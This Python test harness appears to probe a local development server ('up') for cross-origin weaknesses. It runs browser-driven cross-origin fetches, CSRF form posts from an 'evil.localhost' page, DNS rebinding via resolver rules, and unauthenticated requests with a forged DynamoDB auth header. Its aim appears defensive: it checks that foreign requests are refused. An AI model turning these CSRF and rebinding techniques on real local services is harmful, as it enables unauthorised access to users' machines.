"""Attacks a running `up` from a page of another site and from a local process without the key.

Argument: {"chromium", "pid", "forms"}. Prints what was tried and everything that could be read or was accepted.
"""

import http.client
import json
import os
import re
import socket
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from playwright.sync_api import sync_playwright

REBOUND = "rebound.example"
DYNAMODB = {"x-amz-target": "DynamoDB_20120810.ListTables", "content-type": "application/x-amz-json-1.0",
            "x-amz-date": "20260101T000000Z",
            "authorization": "AWS4-HMAC-SHA256 Credential=local/20260101/local/dynamodb/aws4_request, "
                             "SignedHeaders=host, Signature=0"}

PAGE = """async ([ports, sandbox]) => {
  const read = [];
  const paths = ['/', '/plans', '/desk', '/__sandbox/world', '/__sandbox/log', '/callback/b-1'];
  const tries = [];
  for (const port of ports) for (const host of ['127.0.0.1', 'localhost']) for (const path of paths) {
    const url = `http://${host}:${port}${path}`;
    for (const options of [{}, {method: 'POST', body: '{}'},
        {method: 'POST', body: '{}', headers: {'x-amz-target': 'DynamoDB_20120810.ListTables', 'content-type': 'application/x-amz-json-1.0'}},
        {method: 'POST', body: '{"kind":"hire"}', headers: {'content-type': 'application/json'}}]) {
      tries.push(url);
      try { const answer = await fetch(url, options); read.push([url, answer.status, (await answer.text()).slice(0, 80)]); } catch {}
    }
  }
  return {tried: tries.length, read};
}"""

# Form posts need no permission of the other side to be sent; what they change is looked at afterwards.
FORMS = """async ([sandbox, acts]) => {
  for (const [action, fields] of acts) {
    const form = document.createElement('form');
    form.method = 'POST'; form.action = sandbox + action; form.target = 'sink';
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement('input'); input.name = name; input.value = value; form.append(input);
    }
    document.body.append(form); form.submit();
    await new Promise(done => setTimeout(done, 400));
  }
}"""

OWN_FORM = """([action, fields]) => {
  const form = document.createElement('form');
  form.method = 'POST'; form.action = action;
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement('input'); input.name = name; input.value = value; form.append(input);
  }
  document.body.append(form); setTimeout(() => form.submit(), 0);
}"""


def listening_ports(pid):
    inodes = set()
    for fd in os.listdir(f"/proc/{pid}/fd"):
        try:
            match = re.match(r"socket:\[(\d+)\]", os.readlink(f"/proc/{pid}/fd/{fd}"))
        except OSError:
            continue
        if match:
            inodes.add(match.group(1))
    ports = set()
    for line in open("/proc/net/tcp").read().splitlines()[1:]:
        part = line.split()
        if part[3] == "0A" and part[9] in inodes:
            ports.add(int(part[1].split(":")[1], 16))
    return sorted(ports)


def ask(port, method, path, body, headers):
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
    try:
        connection.request(method, path, body=body, headers=headers)
        answer = connection.getresponse()
        return answer.status, answer.read()[:200].decode(errors="replace")
    except (OSError, http.client.HTTPException):
        return 0, ""
    finally:
        connection.close()


def sandbox_port(ports):
    return next(port for port in ports if ask(port, "GET", "/__sandbox/state", None, {})[0] == 200)


def count_people(port):
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    connection.request("GET", "/__sandbox/world")
    return len(json.loads(connection.getresponse().read())["people"])


class Foreign(BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"<!doctype html><iframe name=sink></iframe>"
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


def main(argument):
    ports = listening_ports(argument["pid"])
    port_of_sandbox = sandbox_port(ports)
    sandbox = f"http://127.0.0.1:{port_of_sandbox}"
    foreign = ThreadingHTTPServer(("127.0.0.1", 0), Foreign)
    threading.Thread(target=foreign.serve_forever, daemon=True).start()
    people = [count_people(port_of_sandbox)]
    result = {"ports": ports, "pages": {}, "process": []}
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=argument["chromium"],
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking",
                  f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1"])
        for name, origin in {
            "another port": f"http://127.0.0.1:{foreign.server_port}",
            "another site": f"http://evil.localhost:{foreign.server_port}",
        }.items():
            page = browser.new_page()
            page.goto(origin)
            result["pages"][name] = page.evaluate(PAGE, [ports, sandbox])
            page.evaluate(FORMS, [sandbox, argument["forms"]])
            page.close()
        # DNS rebinding: the page's own name now points at the sandbox, so that the browser sees one origin.
        page = browser.new_page()
        answer = page.goto(f"http://{REBOUND}:{port_of_sandbox}/")
        rebound = page.evaluate("async () => { const a = await fetch('/__sandbox/world'); return [a.status, (await a.text()).length]; }")
        result["rebound"] = {"page": answer.status, "fetch": rebound}
        people.append(count_people(port_of_sandbox))
        # The same forms from the sandbox's own page do something: the foreign ones were refused, not misspelt.
        # Its policy allows no frame, so that the page itself goes where the form leads.
        page = browser.new_page()
        for action, fields in argument["forms"]:
            page.goto(sandbox)
            with page.expect_navigation():
                page.evaluate(OWN_FORM, [action, fields])
        people.append(count_people(port_of_sandbox))
        browser.close()
    for port in ports:
        if port == port_of_sandbox:
            continue
        for method, path, headers in [("POST", "/", DYNAMODB), ("GET", "/", {}), ("POST", "/plans", {}), ("POST", "/desk", {}),
                                      ("POST", "/plans", {"authorization": "Bearer "}), ("POST", "/callback/b-1", {})]:
            status, body = ask(port, method, path, b"{}", headers)
            if status == 200:
                result["process"].append([port, method, path, body])
    result["people"] = people
    print(json.dumps(result, ensure_ascii=False))


main(json.loads(sys.argv[1]))
